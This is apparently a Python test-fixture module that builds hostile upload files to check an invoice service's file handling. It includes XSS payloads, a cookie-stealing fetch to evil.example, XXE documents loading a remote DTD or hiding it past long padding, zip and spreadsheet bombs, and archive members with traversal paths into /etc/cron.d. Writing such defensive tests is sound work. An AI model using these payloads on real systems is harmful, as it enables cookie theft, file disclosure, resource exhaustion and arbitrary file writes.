"""Hostile files: what they are made of (builders from the spend tests, plus a few more)."""

from __future__ import annotations

import io
import zipfile
from functools import cache

from tests.spend.files import csv_bytes, ubl, xlsx_bytes, zip_bytes
from tests.spend.test_bad_files import (
    LAUGHS,
    XXE,
    encrypted_zip,
    xlsx_bomb,
    xlsx_xxe,
    zip_bomb,
)

CSV = csv_bytes()
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
PDF = b"%PDF-1.7\n1 0 obj << /JavaScript (app.alert(1)) >> endobj\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"This program"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
GIF = b"GIF89a\x01\x00\x01\x00" + b"\x00" * 32
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
BARE_SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"
XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""
# A DTD pushed past a long comment, as a filter that reads only the first bytes might miss it.
XXE_LATE = b'<?xml version="1.0"?>\n<!--' + b" " * 9000 + b"-->\n" + XXE.split(b"\n", 1)[1]


def zip_of(members: dict[str, bytes]) -> bytes:
    """A ZIP whose member names are written as given (zipfile would keep '..' but not '\\')."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


@cache
def zip_bomb_cached() -> bytes:
    return zip_bomb()


@cache
def xlsx_bomb_cached() -> bytes:
    return xlsx_bomb()


def xlsx_with_member(name: str, content: bytes) -> bytes:
    """A valid workbook with one more member (a traversal name, say)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr(zipfile.ZipInfo(name), content)
    return out.getvalue()


INVOICE = ubl("invoice.xml")
BUILDERS = {
    "xxe": lambda: XXE,
    "laughs": lambda: LAUGHS,
    "xxe_parameter": lambda: XXE_PARAMETER,
    "xxe_late": lambda: XXE_LATE,
    "zip_bomb": zip_bomb_cached,
    "xlsx_bomb": xlsx_bomb_cached,
    "xlsx_xxe": xlsx_xxe,
    "encrypted_zip": encrypted_zip,
    "zip_traversal": lambda: zip_of({"../../etc/cron.d/faktura.xml": INVOICE}),
    "zip_absolute": lambda: zip_of({"/etc/cron.d/faktura.xml": INVOICE}),
    "zip_backslash": lambda: zip_of({"..\\..\\windows\\faktura.xml": INVOICE}),
    "zip_drive": lambda: zip_of({"C:/Windows/faktura.xml": INVOICE}),
    "zip_hostile_member": lambda: zip_bytes({"ok.xml": INVOICE, "evil.xml": XXE}),
    "xlsx_traversal": lambda: xlsx_with_member("../../../tmp/evil.xml", b"<a/>"),
}
